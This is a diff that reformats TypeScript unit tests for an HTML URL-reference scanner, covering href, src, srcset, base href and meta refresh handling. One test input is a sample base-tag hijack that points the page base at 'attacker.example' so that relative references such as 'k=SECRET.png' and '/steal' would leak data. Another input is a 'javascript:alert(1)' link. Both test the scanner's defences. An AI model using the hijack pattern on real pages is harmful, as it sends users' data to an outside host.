@@ -18,33 +18,112 @@ function scan(pieces: readonly string[], responseUrl = PAGE): string[] {
 describe('HtmlReferenceScanner: each URL-bearing attribute', () => {
   it.each<[name: string, html: string, found: string[]]>([
     ['a[href]', '<a href="https://cdn.example.com/a">x</a>', ['html a[href] https://cdn.example.com/a']],
-    ['link[href]', '<link rel="stylesheet" href="https://fonts.example.net/css">', ['html link[href] https://fonts.example.net/css']],
+    [
+      'link[href]',
+      '<link rel="stylesheet" href="https://fonts.example.net/css">',
+      ['html link[href] https://fonts.example.net/css'],
+    ],
     ['img[src]', '<img src="https://img.example.net/cat.jpg">', ['html img[src] https://img.example.net/cat.jpg']],
-    ['script[src]', '<script src="https://js.example.net/app.js"></script>', ['html script[src] https://js.example.net/app.js']],
-    ['iframe[src]', '<iframe src="https://embed.example.net/v/1"></iframe>', ['html iframe[src] https://embed.example.net/v/1']],
-    ['source[src] in video', '<video><source src="https://media.example.net/v.mp4"></video>', ['html source[src] https://media.example.net/v.mp4']],
-    ['video[poster]', '<video poster="https://media.example.net/p.jpg"></video>', ['html video[poster] https://media.example.net/p.jpg']],
-    ['img[data-src] (lazy loading)', '<img data-src="https://lazy.example.net/c.jpg">', ['html img[data-src] https://lazy.example.net/c.jpg']],
-    ['form[action]', '<form action="https://forms.example.net/post" method="post"></form>', ['html form[action] https://forms.example.net/post']],
-    ['button[formaction]', '<button formaction="https://forms.example.net/other">go</button>', ['html button[formaction] https://forms.example.net/other']],
-    ['blockquote[cite]', '<blockquote cite="https://quotes.example.net/q/1">q</blockquote>', ['html blockquote[cite] https://quotes.example.net/q/1']],
+    [
+      'script[src]',
+      '<script src="https://js.example.net/app.js"></script>',
+      ['html script[src] https://js.example.net/app.js'],
+    ],
+    [
+      'iframe[src]',
+      '<iframe src="https://embed.example.net/v/1"></iframe>',
+      ['html iframe[src] https://embed.example.net/v/1'],
+    ],
+    [
+      'source[src] in video',
+      '<video><source src="https://media.example.net/v.mp4"></video>',
+      ['html source[src] https://media.example.net/v.mp4'],
+    ],
+    [
+      'video[poster]',
+      '<video poster="https://media.example.net/p.jpg"></video>',
+      ['html video[poster] https://media.example.net/p.jpg'],
+    ],
+    [
+      'img[data-src] (lazy loading)',
+      '<img data-src="https://lazy.example.net/c.jpg">',
+      ['html img[data-src] https://lazy.example.net/c.jpg'],
+    ],
+    [
+      'form[action]',
+      '<form action="https://forms.example.net/post" method="post"></form>',
+      ['html form[action] https://forms.example.net/post'],
+    ],
+    [
+      'button[formaction]',
+      '<button formaction="https://forms.example.net/other">go</button>',
+      ['html button[formaction] https://forms.example.net/other'],
+    ],
+    [
+      'blockquote[cite]',
+      '<blockquote cite="https://quotes.example.net/q/1">q</blockquote>',
+      ['html blockquote[cite] https://quotes.example.net/q/1'],
+    ],
     ['q[cite]', '<q cite="https://quotes.example.net/q/2">q</q>', ['html q[cite] https://quotes.example.net/q/2']],
     ['unquoted value', '<a href=https://cdn.example.com/u>x</a>', ['html a[href] https://cdn.example.com/u']],
     ['single-quoted value', "<a href='https://cdn.example.com/s'>x</a>", ['html a[href] https://cdn.example.com/s']],
-    ['upper-case tag and attribute', '<A HREF="https://cdn.example.com/U">x</A>', ['html a[href] https://cdn.example.com/U']],
-    ['entities decoded', '<a href="https://cdn.example.com/a?b=1&amp;c=2&#x26;d=3">x</a>', ['html a[href] https://cdn.example.com/a?b=1&c=2&d=3']],
-    ['scheme written with entities', '<a href="&#x68;ttps://cdn.example.com/e">x</a>', ['html a[href] https://cdn.example.com/e']],
-    ['relative, against the page', '<a href="next?page=2">x</a><img src="/i/cat.png">', ['html a[href] https://search.example.com/results/next?page=2', 'html img[src] https://search.example.com/i/cat.png']],
-    ['scheme-relative, with the page scheme', '<img src="//img.example.net/c.jpg">', ['html img[src] https://img.example.net/c.jpg']],
-    ['IDN normalised, IP literal kept', '<a href="https://bücher.example/">x</a><img src="http://10.0.0.1/x.png">', ['html a[href] https://xn--bcher-kva.example/', 'html img[src] http://10.0.0.1/x.png']],
-    ['every element in a document, in order', '<p><a href="https://a.example/">a</a></p><div><img src="https://b.example/b.png"></div>', ['html a[href] https://a.example/', 'html img[src] https://b.example/b.png']],
-    ['javascript:, mailto:, data: and tel: are not references', '<a href="javascript:alert(1)">j</a><a href="mailto:a@b.example">m</a><img src="data:image/png;base64,AAAA"><a href="tel:+1">t</a>', []],
+    [
+      'upper-case tag and attribute',
+      '<A HREF="https://cdn.example.com/U">x</A>',
+      ['html a[href] https://cdn.example.com/U'],
+    ],
+    [
+      'entities decoded',
+      '<a href="https://cdn.example.com/a?b=1&amp;c=2&#x26;d=3">x</a>',
+      ['html a[href] https://cdn.example.com/a?b=1&c=2&d=3'],
+    ],
+    [
+      'scheme written with entities',
+      '<a href="&#x68;ttps://cdn.example.com/e">x</a>',
+      ['html a[href] https://cdn.example.com/e'],
+    ],
+    [
+      'relative, against the page',
+      '<a href="next?page=2">x</a><img src="/i/cat.png">',
+      [
+        'html a[href] https://search.example.com/results/next?page=2',
+        'html img[src] https://search.example.com/i/cat.png',
+      ],
+    ],
+    [
+      'scheme-relative, with the page scheme',
+      '<img src="//img.example.net/c.jpg">',
+      ['html img[src] https://img.example.net/c.jpg'],
+    ],
+    [
+      'IDN normalised, IP literal kept',
+      '<a href="https://bücher.example/">x</a><img src="http://10.0.0.1/x.png">',
+      ['html a[href] https://xn--bcher-kva.example/', 'html img[src] http://10.0.0.1/x.png'],
+    ],
+    [
+      'every element in a document, in order',
+      '<p><a href="https://a.example/">a</a></p><div><img src="https://b.example/b.png"></div>',
+      ['html a[href] https://a.example/', 'html img[src] https://b.example/b.png'],
+    ],
+    [
+      'javascript:, mailto:, data: and tel: are not references',
+      '<a href="javascript:alert(1)">j</a><a href="mailto:a@b.example">m</a><img src="data:image/png;base64,AAAA"><a href="tel:+1">t</a>',
+      [],
+    ],
     ['an empty href is the page itself', '<a href="">self</a>', [`html a[href] ${PAGE}`]],
-    ['other attributes are not read', '<div title="https://t.example/" data-url="https://d.example/" style="background:url(https://s.example/)">x</div>', []],
+    [
+      'other attributes are not read',
+      '<div title="https://t.example/" data-url="https://d.example/" style="background:url(https://s.example/)">x</div>',
+      [],
+    ],
     ['text is not read', '<p>Visit https://text.example/ today</p>', []],
     ['comments are not read', '<!-- <a href="https://comment.example/">x</a> -->', []],
     ['script bodies are not read', '<script>var a = \'<a href="https://script.example/">\';</script>', []],
-    ['unclosed tag at the end', '<a href="https://a.example/">x</a><img src="https://b.example/', ['html a[href] https://a.example/']],
+    [
+      'unclosed tag at the end',
+      '<a href="https://a.example/">x</a><img src="https://b.example/',
+      ['html a[href] https://a.example/'],
+    ],
   ])('%s', (_name, html, found) => {
     expect(scan([html])).toEqual(found);
   });
@@ -52,11 +131,37 @@ describe('HtmlReferenceScanner: each URL-bearing attribute', () => {
 
 describe('HtmlReferenceScanner: srcset', () => {
   it.each<[name: string, html: string, found: string[]]>([
-    ['every candidate', '<img srcset="https://a.example/s.jpg 1x, https://b.example/l.jpg 2x">', ['html img[srcset] https://a.example/s.jpg', 'html img[srcset] https://b.example/l.jpg']],
-    ['width descriptors and sizes', '<img srcset="https://a.example/320.jpg 320w,https://a.example/640.jpg 640w" sizes="(max-width: 600px) 320px, 640px">', ['html img[srcset] https://a.example/320.jpg', 'html img[srcset] https://a.example/640.jpg']],
-    ['commas inside a URL (image CDNs)', '<img srcset="https://res.example/w_100,h_100/a.jpg 1x, https://res.example/w_200,h_200/a.jpg 2x">', ['html img[srcset] https://res.example/w_100,h_100/a.jpg', 'html img[srcset] https://res.example/w_200,h_200/a.jpg']],
-    ['relative candidates', '<img srcset="a.jpg, /b.jpg 2x">', ['html img[srcset] https://search.example.com/results/a.jpg', 'html img[srcset] https://search.example.com/b.jpg']],
-    ['in picture/source', '<picture><source srcset="https://a.example/a.webp" type="image/webp"><img src="https://a.example/a.jpg"></picture>', ['html source[srcset] https://a.example/a.webp', 'html img[src] https://a.example/a.jpg']],
+    [
+      'every candidate',
+      '<img srcset="https://a.example/s.jpg 1x, https://b.example/l.jpg 2x">',
+      ['html img[srcset] https://a.example/s.jpg', 'html img[srcset] https://b.example/l.jpg'],
+    ],
+    [
+      'width descriptors and sizes',
+      '<img srcset="https://a.example/320.jpg 320w,https://a.example/640.jpg 640w" sizes="(max-width: 600px) 320px, 640px">',
+      ['html img[srcset] https://a.example/320.jpg', 'html img[srcset] https://a.example/640.jpg'],
+    ],
+    [
+      'commas inside a URL (image CDNs)',
+      '<img srcset="https://res.example/w_100,h_100/a.jpg 1x, https://res.example/w_200,h_200/a.jpg 2x">',
+      [
+        'html img[srcset] https://res.example/w_100,h_100/a.jpg',
+        'html img[srcset] https://res.example/w_200,h_200/a.jpg',
+      ],
+    ],
+    [
+      'relative candidates',
+      '<img srcset="a.jpg, /b.jpg 2x">',
+      [
+        'html img[srcset] https://search.example.com/results/a.jpg',
+        'html img[srcset] https://search.example.com/b.jpg',
+      ],
+    ],
+    [
+      'in picture/source',
+      '<picture><source srcset="https://a.example/a.webp" type="image/webp"><img src="https://a.example/a.jpg"></picture>',
+      ['html source[srcset] https://a.example/a.webp', 'html img[src] https://a.example/a.jpg'],
+    ],
   ])('%s', (_name, html, found) => {
     expect(scan([html])).toEqual(found);
   });
@@ -80,23 +185,52 @@ describe('HtmlReferenceScanner: <base href>', () => {
     [
       'a base on the same origin changes the base for relative URLs after it',
       '<a href="before.html">b</a><base href="https://search.example.com/assets/"><img src="i.png"><a href="/root">r</a>',
-      ['html a[href] https://search.example.com/results/before.html', 'html base[href] https://search.example.com/assets/', 'html img[src] https://search.example.com/assets/i.png', 'html a[href] https://search.example.com/root'],
+      [
+        'html a[href] https://search.example.com/results/before.html',
+        'html base[href] https://search.example.com/assets/',
+        'html img[src] https://search.example.com/assets/i.png',
+        'html a[href] https://search.example.com/root',
+      ],
     ],
     [
       'a base on another host is a reference, but relative URLs never resolve against it (issue 11 §2)',
       '<base href="https://attacker.example/"><img src="k=SECRET.png"><a href="/steal">r</a><img srcset="x.jpg 1x"><meta http-equiv=refresh content="0; url=/r"><a href="//cdn.example.com/ok">ok</a>',
       ['html base[href] https://attacker.example/'],
     ],
-    ['a base on another port of the page host counts as another origin', '<base href="https://search.example.com:8443/"><img src="i.png">', ['html base[href] https://search.example.com:8443/']],
-    ['a relative base resolves against the page', '<base href="/static/"><img src="i.png">', ['html base[href] https://search.example.com/static/', 'html img[src] https://search.example.com/static/i.png']],
+    [
+      'a base on another port of the page host counts as another origin',
+      '<base href="https://search.example.com:8443/"><img src="i.png">',
+      ['html base[href] https://search.example.com:8443/'],
+    ],
+    [
+      'a relative base resolves against the page',
+      '<base href="/static/"><img src="i.png">',
+      ['html base[href] https://search.example.com/static/', 'html img[src] https://search.example.com/static/i.png'],
+    ],
     [
       'only the first base counts',
       '<base href="/one/"><base href="https://two.example/"><img src="i.png">',
-      ['html base[href] https://search.example.com/one/', 'html base[href] https://two.example/', 'html img[src] https://search.example.com/one/i.png'],
+      [
+        'html base[href] https://search.example.com/one/',
+        'html base[href] https://two.example/',
+        'html img[src] https://search.example.com/one/i.png',
+      ],
     ],
-    ['a base without href does not count', '<base target="_blank"><base href="/one/"><img src="i.png">', ['html base[href] https://search.example.com/one/', 'html img[src] https://search.example.com/one/i.png']],
-    ['a javascript: base is ignored', '<base href="javascript:x"><img src="i.png">', ['html img[src] https://search.example.com/results/i.png']],
-    ['absolute URLs do not use it', '<base href="https://one.example/"><img src="https://two.example/i.png">', ['html base[href] https://one.example/', 'html img[src] https://two.example/i.png']],
+    [
+      'a base without href does not count',
+      '<base target="_blank"><base href="/one/"><img src="i.png">',
+      ['html base[href] https://search.example.com/one/', 'html img[src] https://search.example.com/one/i.png'],
+    ],
+    [
+      'a javascript: base is ignored',
+      '<base href="javascript:x"><img src="i.png">',
+      ['html img[src] https://search.example.com/results/i.png'],
+    ],
+    [
+      'absolute URLs do not use it',
+      '<base href="https://one.example/"><img src="https://two.example/i.png">',
+      ['html base[href] https://one.example/', 'html img[src] https://two.example/i.png'],
+    ],
   ])('%s', (_name, html, found) => {
     expect(scan([html])).toEqual(found);
   });
@@ -104,12 +238,32 @@ describe('HtmlReferenceScanner: <base href>', () => {
 
 describe('HtmlReferenceScanner: <meta http-equiv=refresh>', () => {
   it.each<[name: string, html: string, found: string[]]>([
-    ['url= form', '<meta http-equiv="refresh" content="0; url=https://next.example/x">', ['html meta[refresh] https://next.example/x']],
-    ['content before http-equiv', '<meta content="5;URL=https://next.example/y" http-equiv="Refresh">', ['html meta[refresh] https://next.example/y']],
-    ['quoted URL', `<meta http-equiv="refresh" content="3; url='https://next.example/q'">`, ['html meta[refresh] https://next.example/q']],
-    ['relative URL', '<meta http-equiv="refresh" content="1; url=/elsewhere">', ['html meta[refresh] https://search.example.com/elsewhere']],
+    [
+      'url= form',
+      '<meta http-equiv="refresh" content="0; url=https://next.example/x">',
+      ['html meta[refresh] https://next.example/x'],
+    ],
+    [
+      'content before http-equiv',
+      '<meta content="5;URL=https://next.example/y" http-equiv="Refresh">',
+      ['html meta[refresh] https://next.example/y'],
+    ],
+    [
+      'quoted URL',
+      `<meta http-equiv="refresh" content="3; url='https://next.example/q'">`,
+      ['html meta[refresh] https://next.example/q'],
+    ],
+    [
+      'relative URL',
+      '<meta http-equiv="refresh" content="1; url=/elsewhere">',
+      ['html meta[refresh] https://search.example.com/elsewhere'],
+    ],
     ['refreshing itself is no reference', '<meta http-equiv="refresh" content="30">', []],
-    ['another http-equiv is not read', '<meta http-equiv="content-security-policy" content="default-src https://csp.example/">', []],
+    [
+      'another http-equiv is not read',
+      '<meta http-equiv="content-security-policy" content="default-src https://csp.example/">',
+      [],
+    ],
     ['a meta without http-equiv is not read', '<meta property="og:image" content="https://og.example/i.png">', []],
   ])('%s', (_name, html, found) => {
     expect(scan([html])).toEqual(found);
@@ -137,7 +291,8 @@ describe('HtmlReferenceScanner: <meta http-equiv=refresh>', () => {
 });
 
 describe('HtmlReferenceScanner: streaming', () => {
-  const doc = '<html><head><base href="https://search.example.com/a/"><meta http-equiv=refresh content="9; url=https://r.example/"></head><body><a href="x.html">x</a><img srcset="https://i.example/1.jpg 1x, https://i.example/2.jpg 2x"><a href="https://l.example/p?a=1&amp;b=2">l</a></body></html>';
+  const doc =
+    '<html><head><base href="https://search.example.com/a/"><meta http-equiv=refresh content="9; url=https://r.example/"></head><body><a href="x.html">x</a><img srcset="https://i.example/1.jpg 1x, https://i.example/2.jpg 2x"><a href="https://l.example/p?a=1&amp;b=2">l</a></body></html>';
   const expected = [
     'html base[href] https://search.example.com/a/',
     'html meta[refresh] https://r.example/',
